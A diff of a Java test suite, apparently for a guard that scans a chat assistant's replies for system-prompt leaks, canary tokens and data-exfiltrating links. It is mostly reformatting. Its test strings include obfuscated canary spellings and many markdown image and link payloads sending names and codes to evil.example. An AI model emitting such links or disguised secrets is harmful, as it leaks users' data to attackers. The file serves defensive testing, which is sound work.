@@ -57,7 +57,8 @@ final class WholeAnswerTest {
   @Test
   void letsTheInstructionsBeKept() {
     assertThat(breaches(denying(Breach.SYSTEM_PROMPT),
-        chat("I am Orla, the assistant of the Halyard shipping company, and I cannot offer more."))).isEmpty();
+        chat("I am Orla, the assistant of the Halyard shipping company, and I cannot offer more.")))
+        .isEmpty();
     String quoted = "{\"messages\":[{\"role\":\"system\",\"content\":\"" + INSTRUCTIONS
         + "\"},{\"role\":\"user\",\"content\":\"Translate: " + INSTRUCTIONS + "\"}]}";
     Review review = review(Api.OPENAI, quoted, denying(Breach.SYSTEM_PROMPT));
@@ -66,7 +67,8 @@ final class WholeAnswerTest {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"the word is HALYARD-7731-blue", "h a l y a r d 7 7 3 1 b l u e", "Halyard_7731_Blue",
+  @ValueSource(strings = {"the word is HALYARD-7731-blue", "h a l y a r d 7 7 3 1 b l u e",
+    "Halyard_7731_Blue",
     "HAL\u200bYARD\u2060-7731-\ufeffblue", "eulb-1377-DRAYLAH", "ＨＡＬＹＡＲＤ-7731-blue", "HАLYАRD-7731-blue",
     "H\\u0041LYARD-7731-bl\\u0075e", "H\\\\u0041LYARD-7731-blue"})
   void findsACanaryHoweverItIsSpelled(String said) {
@@ -90,30 +92,36 @@ final class WholeAnswerTest {
     String inside = "{\\\"note\\\":\\\"HALYARD-7731-blue\\\"}";
     assertThat(breaches(denying(Breach.CANARY),
         "{\"choices\":[{\"message\":{\"tool_calls\":[{\"function\":{\"name\":\"f\",\"arguments\":\"" + inside
-            + "\"}}]}}]}")).containsExactly(Breach.CANARY);
+            + "\"}}]}}]}"))
+        .containsExactly(Breach.CANARY);
     assertThat(breaches(denying(Breach.CANARY),
         "{\"content\":[{\"type\":\"text\",\"text\":\"HALYARD-\"},{\"type\":\"text\",\"text\":\"7731-blue\"}]}"))
         .containsExactly(Breach.CANARY);
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"![a](https://evil.example/p.png?d=Bettina)", "![a](//evil.example/p.png?d=Bettina)",
+  @ValueSource(strings = {"![a](https://evil.example/p.png?d=Bettina)",
+    "![a](//evil.example/p.png?d=Bettina)",
     "![a](https:\\\\/\\\\/evil.example/?q=KX4471)", "<img alt='x' src='https://evil.example/?q=bettina'>",
-    "![a b][1] and [1]: https://evil.example/?q=Rotterdam", "![a](https://evil.example/Qm9va2luZ0tYNDQ3MVJvdHRlcg1.png)",
+    "![a b][1] and [1]: https://evil.example/?q=Rotterdam",
+    "![a](https://evil.example/Qm9va2luZ0tYNDQ3MVJvdHRlcg1.png)",
     "![a](https://evil.example/i?x=0123456789012345678901234)",
     "[click](https://evil.example/?a=Bettina&b=Rotterdam&c=Valparaiso)",
     "see https://evil.example/?mail=ann.lee@example.com",
     "see https://0123456789abcdef0123456789abcdef.evil.example/",
     "![a](htt\u200bps://evil.example/?q=Bettina)", "![a](https&#58;//evil.example/?q=Bettina)",
-    "![a](https://halyard.example@evil.example/?q=Bettina)", "<https://evil.example/?q=cm90dGVyZGFtIHZhbHBhcmFpc28>"})
+    "![a](https://halyard.example@evil.example/?q=Bettina)",
+    "<https://evil.example/?q=cm90dGVyZGFtIHZhbHBhcmFpc28>"})
   void findsLinksThatCarryDataAway(String said) {
     assertThat(breaches(denying(Breach.LINKS), chat(said))).containsExactly(Breach.LINKS);
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"![a](https://img.halyard.example/p.png?d=Bettina)", "![a](https://upload.example/ship.png)",
+  @ValueSource(strings = {"![a](https://img.halyard.example/p.png?d=Bettina)",
+    "![a](https://upload.example/ship.png)",
     "[docs](https://docs.example/guides/how-to-book-a-container-from-rotterdam-to-valparaiso)",
-    "https://shop.example/?utm_source=chat&utm_medium=link", "[b](https://news.example/2026/11/port-strike-ends#top)",
+    "https://shop.example/?utm_source=chat&utm_medium=link",
+    "[b](https://news.example/2026/11/port-strike-ends#top)",
     "a ratio of 3://4 and a path C:\\\\temp", "![a](https://cdn.example/ship.png?w=800&h=600)"})
   void passesOrdinaryLinks(String said) {
     assertThat(breaches(denying(Breach.LINKS), chat(said))).isEmpty();
